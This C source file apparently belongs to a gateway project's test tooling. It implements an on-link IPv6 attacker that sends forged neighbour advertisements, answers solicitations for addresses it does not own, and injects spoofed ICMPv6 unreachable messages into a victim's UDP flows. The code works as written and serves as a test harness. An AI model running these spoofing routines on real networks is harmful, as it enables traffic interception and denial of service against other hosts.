// SPDX-License-Identifier: BSD-2-Clause
// Copyright (c) 2026 the gatewayd authors
/*
 * nd claim INTERFACE TARGET VICTIM COUNT EVERY_MS
 *        Tell VICTIM, COUNT times, that TARGET is here: neighbour advertisements, solicited and to
 *        override what was known, with the link-layer address of INTERFACE.
 * nd answer INTERFACE TARGET COUNT
 *        Answer what solicits TARGET as if it were here, for so many times. Solicitations that were
 *        diverted to here are seen as well as those by multicast.
 * nd unreachable INTERFACE '[VICTIM]:PORT' '[NODE]:PORT' COUNT EVERY_MS
 *        Tell VICTIM, COUNT times, that what it sent from there to NODE by UDP cannot be delivered,
 *        for one reason after the other.
 *
 * An attacker on the link, for tests: neither neighbour discovery nor ICMP is authenticated. Prints
 * how often it was done, at the end or when it is told to end.
 *
 * Source: RFC 4861 section 4.4, RFC 4443 section 3.
 */
#include "io/addr.h"
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define ETHER_IPV6  0x86dd
#define ETHER_LEN   6
#define HOPS        255 /* no router has passed it on (RFC 4861 section 7.1.2) */
#define COUNT_MAX   1000000
#define EVERY_MAX   60000
#define PACKET_MAX  2048
#define QUOTED_DATA 16

/* What follows the type and the option is as on the wire. */
struct advertisement {
	struct nd_neighbor_advert head;
	struct nd_opt_hdr option;
	uint8_t link_layer[ETHER_LEN];
};

struct unreachable {
	struct icmp6_hdr head;
	struct ip6_hdr ip;
	struct udphdr udp;
	uint8_t data[QUOTED_DATA];
};

static volatile sig_atomic_t ended;

static void end(int signal)
{
	(void)signal;
	ended = 1;
}

static _Noreturn void die(const char *what)
{
	fprintf(stderr, "nd: %s: %s\n", what, strerror(errno));
	exit(1);
}

static _Noreturn void usage(void)
{
	fputs("usage: nd claim INTERFACE TARGET VICTIM COUNT EVERY_MS\n"
	      "       nd answer INTERFACE TARGET COUNT\n"
	      "       nd unreachable INTERFACE '[VICTIM]:PORT' '[NODE]:PORT' COUNT EVERY_MS\n",
	      stderr);
	exit(2);
}

static struct in6_addr read_ip(const char *text)
{
	struct in6_addr ip;

	if (inet_pton(AF_INET6, text, &ip) != 1)
		usage();
	return ip;
}

static struct gk_addr read_endpoint(const char *text)
{
	struct gk_addr addr;

	if (!io_addr_parse(text, 0, &addr) || addr.port == 0)
		usage();
	return addr;
}

static unsigned read_number(const char *text, unsigned max)
{
	char *rest;
	unsigned long number = strtoul(text, &rest, 10);

	if (*rest || rest == text || number < 1 || number > max)
		usage();
	return (unsigned)number;
}

/* The kernel finds the way to the victim and sums up. */
static int open_icmp(const char *interface)
{
	struct icmp6_filter none;
	int fd = socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6), hops = HOPS;

	if (fd < 0)
		die("socket");
	ICMP6_FILTER_SETBLOCKALL(&none);
	if (setsockopt(fd, IPPROTO_IPV6, IPV6_UNICAST_HOPS, &hops, sizeof(hops)) ||
	    setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, interface, strlen(interface) + 1) ||
	    setsockopt(fd, IPPROTO_ICMPV6, ICMP6_FILTER, &none, sizeof(none)))
		die(interface);
	return fd;
}

static void send_to(int fd, const struct in6_addr *ip, const void *message, size_t len)
{
	struct sockaddr_in6 to = { .sin6_family = AF_INET6, .sin6_addr = *ip };

	if (sendto(fd, message, len, 0, (struct sockaddr *)&to, sizeof(to)) < 0 && !ended)
		die("sendto");
}

static void rest(unsigned ms)
{
	nanosleep(&(struct timespec){ ms / 1000, ms % 1000 * 1000000L }, NULL);
}

static struct advertisement make_advertisement(const char *interface, const struct in6_addr *target)
{
	struct advertisement made = {
		.head.nd_na_hdr.icmp6_type = ND_NEIGHBOR_ADVERT,
		.head.nd_na_target = *target,
		.option = { ND_OPT_TARGET_LINKADDR, 1 },
	};
	struct ifreq request = { 0 };
	int fd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	made.head.nd_na_flags_reserved = ND_NA_FLAG_SOLICITED | ND_NA_FLAG_OVERRIDE;
	snprintf(request.ifr_name, sizeof(request.ifr_name), "%s", interface);
	if (fd < 0 || ioctl(fd, SIOCGIFHWADDR, &request))
		die(interface);
	memcpy(made.link_layer, request.ifr_hwaddr.sa_data, ETHER_LEN);
	close(fd);
	return made;
}

static unsigned claim(char **argv)
{
	struct in6_addr target = read_ip(argv[1]), victim = read_ip(argv[2]);
	unsigned count = read_number(argv[3], COUNT_MAX), every = read_number(argv[4], EVERY_MAX);
	struct advertisement lie = make_advertisement(argv[0], &target);
	int fd = open_icmp(argv[0]);
	unsigned done = 0;

	for (; done < count && !ended; done++) {
		send_to(fd, &victim, &lie, sizeof(lie));
		rest(every);
	}
	return done;
}

/* Not only what comes to addresses that are ours. */
static int open_packets(const char *interface)
{
	struct sockaddr_ll own = { .sll_family = AF_PACKET, .sll_protocol = htons(ETHER_IPV6) };
	int fd = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETHER_IPV6));
	struct packet_mreq all = { .mr_type = PACKET_MR_PROMISC };

	own.sll_ifindex = all.mr_ifindex = (int)if_nametoindex(interface);
	if (fd < 0 || bind(fd, (struct sockaddr *)&own, sizeof(own)) ||
	    setsockopt(fd, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &all, sizeof(all)))
		die(interface);
	return fd;
}

static bool is_solicitation(const uint8_t *packet, size_t len, const struct in6_addr *target,
			    struct in6_addr *from)
{
	struct nd_neighbor_solicit asked;
	struct ip6_hdr ip;

	if (len < sizeof(ip) + sizeof(asked))
		return false;
	memcpy(&ip, packet, sizeof(ip));
	memcpy(&asked, packet + sizeof(ip), sizeof(asked));
	*from = ip.ip6_src;
	return ip.ip6_nxt == IPPROTO_ICMPV6 && asked.nd_ns_type == ND_NEIGHBOR_SOLICIT &&
	       memcmp(&asked.nd_ns_target, target, sizeof(*target)) == 0;
}

static unsigned answer(char **argv)
{
	struct in6_addr target = read_ip(argv[1]), from;
	unsigned count = read_number(argv[2], COUNT_MAX), done = 0;
	struct advertisement lie = make_advertisement(argv[0], &target);
	int packets = open_packets(argv[0]), fd = open_icmp(argv[0]);
	uint8_t packet[PACKET_MAX];

	while (done < count && !ended) {
		ssize_t len = recv(packets, packet, sizeof(packet), 0);
		if (len > 0 && is_solicitation(packet, (size_t)len, &target, &from)) {
			send_to(fd, &from, &lie, sizeof(lie));
			done++;
		}
	}
	return done;
}

static struct unreachable make_unreachable(const struct gk_addr *from, const struct gk_addr *to)
{
	uint16_t len = htons(sizeof(struct udphdr) + QUOTED_DATA);
	struct unreachable made = {
		.head.icmp6_type = ICMP6_DST_UNREACH,
		.ip.ip6_plen = len,
		.ip.ip6_nxt = IPPROTO_UDP,
		.ip.ip6_hops = 64,
		.udp = { .source = htons(from->port), .dest = htons(to->port), .len = len },
	};

	made.ip.ip6_vfc = 6 << 4;
	memcpy(&made.ip.ip6_src, from->ip, sizeof(from->ip));
	memcpy(&made.ip.ip6_dst, to->ip, sizeof(to->ip));
	return made;
}

static unsigned unreachable(char **argv)
{
	static const uint8_t reasons[] = { ICMP6_DST_UNREACH_NOPORT, ICMP6_DST_UNREACH_ADDR,
					   ICMP6_DST_UNREACH_ADMIN, ICMP6_DST_UNREACH_NOROUTE };
	struct gk_addr from = read_endpoint(argv[1]), to = read_endpoint(argv[2]);
	unsigned count = read_number(argv[3], COUNT_MAX), every = read_number(argv[4], EVERY_MAX);
	struct unreachable lie = make_unreachable(&from, &to);
	int fd = open_icmp(argv[0]);
	unsigned done = 0;

	for (; done < count && !ended; done++) {
		lie.head.icmp6_code = reasons[done % sizeof(reasons)];
		send_to(fd, &lie.ip.ip6_src, &lie, sizeof(lie));
		rest(every);
	}
	return done;
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		int arguments;
		unsigned (*run)(char **argv);
	} commands[] = { { "claim", 5, claim },
			 { "answer", 3, answer },
			 { "unreachable", 5, unreachable } };
	struct sigaction action = { .sa_handler = end }; /* and no call is begun again */

	sigaction(SIGTERM, &action, NULL);
	for (size_t i = 0; argc > 2 && i < sizeof(commands) / sizeof(commands[0]); i++) {
		if (strcmp(argv[1], commands[i].name) == 0 && argc == 2 + commands[i].arguments) {
			printf("%u\n", commands[i].run(argv + 2));
			return 0;
		}
	}
	usage();
}
